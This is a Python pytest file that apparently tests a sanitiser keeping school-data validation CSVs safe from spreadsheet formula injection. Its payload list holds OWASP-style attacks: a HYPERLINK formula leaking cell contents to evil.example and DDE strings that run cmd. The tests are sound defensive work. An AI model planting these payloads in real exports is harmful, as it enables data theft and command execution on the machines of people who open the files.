"""CSV injection: no validation output opened in a spreadsheet runs a cell as a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from evaluation.validation.page import write_validation_outputs
from evaluation.validation.quality import check_quality
from evaluation.validation.safe_csv import FORMULA_STARTS, safe_cell, safe_frame, write_csv
from evaluation.validation.validate import validate_data_dir

from fixtures import valid_tables, write_data_dir

# OWASP's examples (https://owasp.org/www-community/attacks/CSV_Injection) and the leading tab
# and carriage return it lists
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")'
DDE = "+cmd|' /C calc'!A0"
MINUS_DDE = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, MINUS_DDE, AT_SUM, "\t=1+1", "\r=1+1", "=1+1", "-A1", "-", "@"]
NUMBERS = ["-3", "-2.5", "-3,5", "+4", "-1e5", "-.5", "+0,25"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_a_quote_and_stays_readable(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("number", NUMBERS)
def test_a_signed_number_is_left_as_it_is(number):
    # a spreadsheet reads -3 as the number it is; "found -5" of a range rule should read -5
    assert safe_cell(number) == number


@pytest.mark.parametrize("value", ["9/A", "S01", "1. uygulama", " =1+1", "a=b", "", None, 12, -3, 2.5])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value or (value != value)


def test_a_frame_is_made_safe_cell_by_cell():
    cells = [*PAYLOADS, *NUMBERS, "9/A", None]
    frame = pd.DataFrame(
        {
            "text": pd.Series(cells, dtype="str"),
            "mixed": pd.Series([*cells[:-2], 3, None], dtype=object),
            "row": pd.Series(range(len(cells)), dtype="Int64"),
        }
    )
    safe = safe_frame(frame)
    for column in ("text", "mixed"):
        expected = [safe_cell(value) if isinstance(value, str) else value for value in frame[column]]
        assert [None if pd.isna(v) else v for v in safe[column]] == [None if pd.isna(v) else v for v in expected]
    assert safe["row"].tolist() == frame["row"].tolist()
    assert frame["text"].iloc[0] == PAYLOADS[0]  # the caller's frame is not changed


def test_write_csv_writes_quoted_cells(tmp_path):
    path = write_csv(pd.DataFrame({"value": [HYPERLINK, "-3"]}), tmp_path / "out.csv", sep=";", encoding="utf-8-sig")
    rows = list(csv.reader(path.open(encoding="utf-8-sig", newline=""), delimiter=";"))
    assert rows == [["value"], ["'" + HYPERLINK], ["-3"]]


def _cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    sep = ";" if path.parent.name == "fix-lists" and text.split("\n", 1)[0].count(";") else ","
    return [cell for row in csv.reader(text.splitlines(keepends=True), delimiter=sep) for cell in row]


@pytest.mark.slow
def test_every_validation_csv_neutralises_what_schools_wrote(tmp_path):
    tables = valid_tables()
    exams = tables["exam_results"]
    exams[0]["score"] = HYPERLINK  # S01: score_type, in quarantine.csv and S01's fix list
    exams[1]["school_id"] = DDE  # an unknown school: unassigned.csv, and quarantine.csv's school_id
    exams[4]["score"] = "-5"  # a negative number: score_range, written as the number it is
    exams[8]["score"] = "120"  # S02 gets a list, so that its name goes to index.csv
    tables["schools"][1]["school_name"] = MINUS_DDE
    tables["students"][0]["sex"] = AT_SUM  # sex_allowed_values
    report = validate_data_dir(write_data_dir(tmp_path / "data", tables))
    warnings = check_quality(report)
    extra = (
        pd.DataFrame([{**warnings.iloc[0].to_dict(), "value": "=1+1", "message": "@cmd"}]) if len(warnings) else None
    )
    warnings = pd.concat([warnings, extra]) if extra is not None else warnings
    out = write_validation_outputs(report, tmp_path / "out", "tr", warnings)

    files = [out / name for name in ("quarantine.csv", "warnings.csv", "validation-summary.csv", "linkage.csv")]
    files += sorted((out / "fix-lists").glob("*.csv"))
    found: dict[str, list[str]] = {}
    for path in files:
        cells = _cells(path)
        risky = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and safe_cell(cell) != cell]
        assert not risky, (path.name, risky)
        found[path.relative_to(out).as_posix()] = cells
    assert "'" + HYPERLINK in found["quarantine.csv"] and "'" + HYPERLINK in found["fix-lists/S01.csv"]
    assert "'" + DDE in found["quarantine.csv"] and "'" + DDE in found["fix-lists/unassigned.csv"]
    assert "'" + AT_SUM in found["quarantine.csv"] and "'" + AT_SUM in found["fix-lists/S01.csv"]
    assert "'" + MINUS_DDE in found["fix-lists/index.csv"]
    assert "-5" in found["quarantine.csv"] and "'-5" not in found["quarantine.csv"]
    if extra is not None:
        assert "'=1+1" in found["warnings.csv"] and "'@cmd" in found["warnings.csv"]
    # the report itself is not changed: the rows keep the text as written
    assert HYPERLINK in set(report.failures["value"])
